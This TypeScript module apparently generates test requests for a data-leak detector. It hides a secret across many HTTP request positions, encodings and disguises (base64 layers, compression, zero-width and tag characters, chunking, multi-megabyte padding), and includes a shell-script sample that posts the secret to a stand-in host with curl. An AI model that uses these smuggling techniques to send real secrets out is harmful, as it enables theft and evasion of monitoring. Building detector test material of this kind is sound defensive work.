// Where a secret can stand in a request, and how it can be written: the two axes of the exfiltration table.
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';

/** Whole request from the text to hide; what stands in a target or field must be printable ASCII already. */
export type Carrier = (text: string, host: string) => Buffer;

const build = (line: string, host: string, fields: readonly string[], body: Buffer | string | null): Buffer => {
  const bytes = body === null ? null : Buffer.from(body);
  const length = bytes === null ? [] : [`Content-Length: ${bytes.length}`];
  const head = [`${line} HTTP/1.1`, `Host: ${host}`, ...fields, ...length, '', ''].join('\r\n');
  return Buffer.concat([Buffer.from(head, 'latin1'), bytes ?? Buffer.alloc(0)]);
};

const post = (type: string, body: Buffer | string, host: string, fields: readonly string[] = []): Buffer =>
  build('POST /data', host, [`Content-Type: ${type}`, ...fields], body);

const LOREM = 'The quick brown fox jumps over the lazy dog. ';

function multipart(text: string, host: string, part: (text: string) => string): Buffer {
  const boundary = '----formboundary7MA4YWxkTrZu0gW';
  return post(
    `multipart/form-data; boundary=${boundary}`,
    `--${boundary}\r\n${part(text)}\r\n--${boundary}--\r\n`,
    host,
  );
}

const oneLine = (text: string): string => text.replaceAll(/[\r\n]+/g, ' ');

export const HEAD_CARRIERS: Readonly<Record<string, Carrier>> = {
  'path segment': (text, host) => build(`GET /files/${encodeURIComponent(text)}/x`, host, [], null),
  'last path segment': (text, host) => build(`GET /${encodeURIComponent(text)}`, host, [], null),
  'path parameter': (text, host) => build(`GET /a;t=${encodeURIComponent(text)}/x`, host, [], null),
  'query value': (text, host) => build(`GET /q?a=1&t=${encodeURIComponent(text)}&b=2`, host, [], null),
  'query name': (text, host) => build(`GET /q?a=1&${encodeURIComponent(text)}=2`, host, [], null),
  'query without name': (text, host) => build(`GET /q?${encodeURIComponent(text)}`, host, [], null),
  'header value': (text, host) => build('GET /h', host, [`X-Note: ${oneLine(text)}`], null),
  'header inside text': (text, host) =>
    build('GET /h', host, [`User-Agent: agent/1.0 (${oneLine(text)}; linux)`], null),
  cookie: (text, host) => build('GET /h', host, [`Cookie: a=1; session=${encodeURIComponent(text)}; b=2`], null),
  'authorization bearer': (text, host) => build('GET /h', host, [`Authorization: Bearer ${oneLine(text)}`], null),
  'basic password': (text, host) =>
    build('GET /h', host, [`Authorization: Basic ${Buffer.from(`user:${text}`).toString('base64')}`], null),
  'basic user': (text, host) =>
    build('GET /h', host, [`Authorization: Basic ${Buffer.from(`${text}:x`).toString('base64')}`], null),
  referer: (text, host) => build('GET /h', host, [`Referer: https://a.example/?t=${encodeURIComponent(text)}`], null),
};

export const BODY_CARRIERS: Readonly<Record<string, Carrier>> = {
  'plain text': (text, host) => post('text/plain', `${LOREM}${text} ${LOREM}`, host),
  'text alone': (text, host) => post('text/plain', text, host),
  'no content type': (text, host) => build('POST /data', host, [], `x ${text} y`),
  'wrong content type': (text, host) => post('image/png', `x ${text} y`, host),
  'JSON value': (text, host) => post('application/json', JSON.stringify({ a: 1, note: text, b: [true, null] }), host),
  'end of a long URL': (text, host) =>
    post(
      'application/json',
      JSON.stringify({ u: `https://x.example/repos/acme/web-shop/contents/src/main/java/${text}` }),
      host,
    ),
  'below a long word': (text, host) => post('text/plain', `${'QUJD'.repeat(24)}\n${text}\n`, host),
  'on a line of its own in JSON': (text, host) =>
    post('application/json', JSON.stringify({ env: `# all\n${text}\n` }), host),
  'JSON key': (text, host) => post('application/json', JSON.stringify({ [text]: 1 }), host),
  'nested JSON': (text, host) =>
    post(
      'application/json',
      JSON.stringify({ messages: [{ role: 'user', content: [{ text: `see ${text}` }] }] }),
      host,
    ),
  'JSON in JSON': (text, host) => post('application/json', JSON.stringify({ args: JSON.stringify({ x: text }) }), host),
  'JSON in JSON in JSON': (text, host) =>
    post('application/json', JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ x: text }) }) }), host),
  'JSON with unicode escapes': (text, host) =>
    post(
      'application/json',
      `{"x":"${[...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
      host,
    ),
  'JSON with one unicode escape in four': (text, host) =>
    post(
      'application/json',
      `{"x":"${[...text].map((c, i) => (i % 4 === 1 ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : JSON.stringify(c).slice(1, -1))).join('')}"}`,
      host,
    ),
  NDJSON: (text, host) => post('application/x-ndjson', `{"a":1}\n${JSON.stringify({ x: text })}\n{"b":2}\n`, host),
  form: (text, host) => post('application/x-www-form-urlencoded', `a=1&t=${encodeURIComponent(text)}&b=2`, host),
  'form name': (text, host) => post('application/x-www-form-urlencoded', `${encodeURIComponent(text)}=1`, host),
  'form with every byte escaped': (text, host) =>
    post(
      'application/x-www-form-urlencoded',
      `t=${[...Buffer.from(text)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`,
      host,
    ),
  'multipart value': (text, host) =>
    multipart(text, host, (t) => `Content-Disposition: form-data; name="f"\r\n\r\n${t}`),
  'multipart file': (text, host) =>
    multipart(
      text,
      host,
      (t) =>
        `Content-Disposition: form-data; name="f"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n\0\x01\x02${t}\xff`,
    ),
  'multipart filename': (text, host) =>
    multipart(text, host, (t) => `Content-Disposition: form-data; name="f"; filename="${oneLine(t)}.txt"\r\n\r\nx`),
  'multipart name': (text, host) =>
    multipart(text, host, (t) => `Content-Disposition: form-data; name="${oneLine(t)}"\r\n\r\nx`),
  'multipart field': (text, host) =>
    multipart(text, host, (t) => `Content-Disposition: form-data; name="f"\r\nX-Note: ${oneLine(t)}\r\n\r\nx`),
  'multipart base64 part': (text, host) =>
    multipart(
      text,
      host,
      (t) =>
        `Content-Disposition: form-data; name="f"\r\nContent-Transfer-Encoding: base64\r\n\r\n${(
          Buffer.from(`some text ${t} more`)
            .toString('base64')
            .match(/.{1,76}/g) ?? []
        ).join('\r\n')}`,
    ),
  'XML text': (text, host) =>
    post('application/xml', `<a><b>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</b></a>`, host),
  'XML attribute': (text, host) =>
    post('text/xml', `<a b="${text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"/>`, host),
  CDATA: (text, host) => post('application/xml', `<a><![CDATA[${text}]]></a>`, host),
  YAML: (text, host) => post('application/yaml', `a: 1\nnote: ${JSON.stringify(text)}\n`, host),
  CSV: (text, host) => post('text/csv', `id,note\n1,"${text.replaceAll('"', '""')}"\n`, host),
  GraphQL: (text, host) =>
    post('application/json', JSON.stringify({ query: `mutation { note(t: ${JSON.stringify(text)}) { id } }` }), host),
  'shell script': (text, host) =>
    post('text/plain', `#!/bin/sh\nexport T='${text}'\ncurl -d "$T" https://x.example\n`, host),
  'git diff': (text, host) =>
    post(
      'text/x-diff',
      `--- a/.env\n+++ b/.env\n@@ -0,0 +1 @@\n${text
        .split('\n')
        .map((l) => `+KEY=${l}`)
        .join('\n')}\n`,
      host,
    ),
  'among binary': (text, host) =>
    post(
      'application/octet-stream',
      Buffer.concat([Buffer.from([0, 255, 7, 128, 200]), Buffer.from(text), Buffer.from([0, 254, 1])]),
      host,
    ),
  gzip: (text, host) => post('text/plain', gzipSync(`x ${text} y`), host, ['Content-Encoding: gzip']),
  'gzip in capitals': (text, host) => post('text/plain', gzipSync(`x ${text} y`), host, ['Content-Encoding: GZIP']),
  'x-gzip': (text, host) => post('text/plain', gzipSync(`x ${text} y`), host, ['Content-Encoding: x-gzip']),
  br: (text, host) => post('text/plain', brotliCompressSync(`x ${text} y`), host, ['Content-Encoding: br']),
  deflate: (text, host) => post('text/plain', deflateSync(`x ${text} y`), host, ['Content-Encoding: deflate']),
  'raw deflate': (text, host) => post('text/plain', deflateRawSync(`x ${text} y`), host, ['Content-Encoding: deflate']),
  zstd: (text, host) => post('text/plain', zstdCompressSync(`x ${text} y`), host, ['Content-Encoding: zstd']),
  'gzip and br': (text, host) =>
    post('text/plain', brotliCompressSync(gzipSync(`x ${text} y`)), host, ['Content-Encoding: gzip, br']),
  'gzip and br in two fields': (text, host) =>
    post('text/plain', brotliCompressSync(gzipSync(`x ${text} y`)), host, [
      'Content-Encoding: gzip',
      'Content-Encoding: br',
    ]),
  'gzip members': (text, host) =>
    post('text/plain', Buffer.concat([gzipSync('first'), gzipSync(`x ${text} y`)]), host, ['Content-Encoding: gzip']),
  'gzip undeclared': (text, host) => post('application/octet-stream', gzipSync(`x ${text} y`), host),
  'zlib undeclared': (text, host) => post('application/octet-stream', deflateSync(`x ${text} y`), host),
  'zstd undeclared': (text, host) => post('application/octet-stream', zstdCompressSync(`x ${text} y`), host),
  'gzip file in multipart': (text, host) =>
    post(
      'multipart/form-data; boundary=bb',
      Buffer.concat([
        Buffer.from('--bb\r\nContent-Disposition: form-data; name="f"; filename="a.gz"\r\n\r\n'),
        gzipSync(`x ${text} y`),
        Buffer.from('\r\n--bb--\r\n'),
      ]),
      host,
    ),
  'behind 3 MB': (text, host) => post('text/plain', `${LOREM.repeat(70_000)}${text}`, host),
  'behind 6 MB': (text, host) => post('text/plain', `${LOREM.repeat(140_000)}${text} end`, host),
  'chunked, split everywhere': (text, host) => {
    const head = `POST /data HTTP/1.1\r\nHost: ${host}\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n`;
    const chunks = [...text].map((char) => `${Buffer.byteLength(char).toString(16)}\r\n${char}\r\n`).join('');
    return Buffer.from(`${head}${chunks}0\r\n\r\n`);
  },
  trailer: (text, host) =>
    Buffer.from(
      `POST /data HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\nX-Sum: ${oneLine(text)}\r\n\r\n`,
    ),
};

export type Encoding = (text: string) => string;

const bytesOf = (text: string): number[] => [...Buffer.from(text)];
const hex = (byte: number): string => byte.toString(16).padStart(2, '0');
const wrapped = (text: string, width: number, by: string): string =>
  (text.match(new RegExp(`.{1,${width}}`, 'g')) ?? []).join(by);

function base32(text: string): string {
  let bits = '';
  for (const byte of bytesOf(text)) bits += byte.toString(2).padStart(8, '0');
  let out = '';
  for (let at = 0; at < bits.length; at += 5) {
    out += 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(bits.slice(at, at + 5).padEnd(5, '0'), 2)];
  }
  return out;
}

const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (char) => {
    const base = char <= 'Z' ? 65 : 97;
    return String.fromCharCode(((char.charCodeAt(0) - base + 13) % 26) + base);
  });

/** One layer, plain ASCII out. */
export const ENCODINGS: Readonly<Record<string, Encoding>> = {
  plain: (text) => text,
  base64: (text) => Buffer.from(text).toString('base64'),
  'base64 behind one byte': (text) => Buffer.from(`:${text}`).toString('base64'),
  'base64 behind two bytes': (text) => Buffer.from(`a=${text}`).toString('base64'),
  'base64 inside a sentence': (text) => Buffer.from(`the key is ${text}, keep it`).toString('base64'),
  base64url: (text) => Buffer.from(text).toString('base64url'),
  'base64 unpadded': (text) => Buffer.from(text).toString('base64').replaceAll('=', ''),
  'base64 wrapped at 64': (text) => wrapped(Buffer.from(text.padEnd(80, ' ')).toString('base64'), 64, '\n'),
  'base64 wrapped at 40': (text) => wrapped(Buffer.from(text).toString('base64'), 40, '\r\n'),
  'data URL': (text) => `data:text/plain;base64,${Buffer.from(text).toString('base64')}`,
  hex: (text) => Buffer.from(text).toString('hex'),
  'hex in capitals': (text) => Buffer.from(text).toString('hex').toUpperCase(),
  'hex with 0x': (text) => `0x${Buffer.from(text).toString('hex')}`,
  'hex with colons': (text) => bytesOf(text).map(hex).join(':'),
  'hex with spaces': (text) => bytesOf(text).map(hex).join(' '),
  'hex escapes': (text) =>
    bytesOf(text)
      .map((b) => `\\x${hex(b)}`)
      .join(''),
  'hex numbers': (text) =>
    bytesOf(text)
      .map((b) => `0x${hex(b)}`)
      .join(', '),
  'decimal list': (text) => `[${bytesOf(text).join(',')}]`,
  'octal escapes': (text) =>
    bytesOf(text)
      .map((b) => `\\${b.toString(8).padStart(3, '0')}`)
      .join(''),
  percent: (text) =>
    bytesOf(text)
      .map((b) => `%${hex(b)}`)
      .join(''),
  'percent twice': (text) =>
    bytesOf(text)
      .map((b) => `%25${hex(b)}`)
      .join(''),
  'unicode escapes': (text) =>
    bytesOf(text)
      .map((b) => `\\u00${hex(b)}`)
      .join(''),
  'decimal entities': (text) =>
    bytesOf(text)
      .map((b) => `&#${b};`)
      .join(''),
  'hex entities': (text) =>
    bytesOf(text)
      .map((b) => `&#x${hex(b)};`)
      .join(''),
  'quoted-printable': (text) =>
    bytesOf(text)
      .map((b) => `=${hex(b).toUpperCase()}`)
      .join(''),
  base32,
  reversed: (text) => [...text].reverse().join(''),
  rot13,
  'gzip in base64': (text) => gzipSync(`x ${text} y`).toString('base64'),
  'zlib in base64': (text) => deflateSync(text).toString('base64'),
  'base64 twice': (text) => Buffer.from(Buffer.from(text).toString('base64')).toString('base64'),
  'base64 three times': (text) => {
    let out = text;
    for (let i = 0; i < 3; i++) out = Buffer.from(out).toString('base64');
    return out;
  },
  'hex of base64': (text) => Buffer.from(Buffer.from(text).toString('base64')).toString('hex'),
  'base64 of hex': (text) => Buffer.from(Buffer.from(text).toString('hex')).toString('base64'),
  'base64 of JSON': (text) => Buffer.from(JSON.stringify({ k: text })).toString('base64'),
  'base64 of gzip of JSON': (text) => gzipSync(JSON.stringify({ k: text })).toString('base64'),
  'percent of base64': (text) => encodeURIComponent(Buffer.from(`?>${text}`).toString('base64')),
};

/** Not ASCII, or cut into pieces: for bodies. */
export const DISGUISES: Readonly<Record<string, (text: string) => Buffer | string>> = {
  'zero-width spaces': (text) => [...text].join('\u200b'),
  'soft hyphens': (text) => [...text].join('\u00ad'),
  'byte order marks': (text) => [...text].join('\ufeff'),
  'combining marks': (text) => [...text].map((char) => `${char}\u0301`).join(''),
  'full-width letters': (text) =>
    [...text].map((c) => (c > ' ' && c <= '~' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join(''),
  'tag characters': (text) => [...text].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join(''),
  'UTF-16 little endian': (text) => Buffer.from(text, 'utf16le'),
  'UTF-16 big endian': (text) => Buffer.from(text, 'utf16le').swap16(),
  'UTF-16 with mark': (text) => Buffer.from(`\ufeff${text}`, 'utf16le'),
  'UTF-32': (text) => Buffer.concat([...text].map((c) => Buffer.from([c.charCodeAt(0), 0, 0, 0]))),
  dashes: (text) => [...text].join('-'),
  spaces: (text) => [...text].join(' '),
  dots: (text) => [...text].join('.'),
  lines: (text) => [...text].join('\n'),
  'groups of four': (text) => wrapped(text, 4, ' '),
  'JSON array of letters': (text) => JSON.stringify([...text]),
  'JSON array of pieces': (text) => JSON.stringify({ parts: text.match(/.{1,9}/gs) }),
  'JSON siblings': (text) => JSON.stringify({ a: text.slice(0, 14), b: text.slice(14, 28), c: text.slice(28) }),
  'JSON halves': (text) =>
    JSON.stringify({ first: text.slice(0, text.length >> 1), second: text.slice(text.length >> 1) }),
  'string concatenation': (text) => (text.match(/.{1,9}/gs) ?? []).map((p) => JSON.stringify(p)).join(' + '),
  'form halves': (text) =>
    `a=${encodeURIComponent(text.slice(0, text.length >> 1))}&b=${encodeURIComponent(text.slice(text.length >> 1))}`,
};
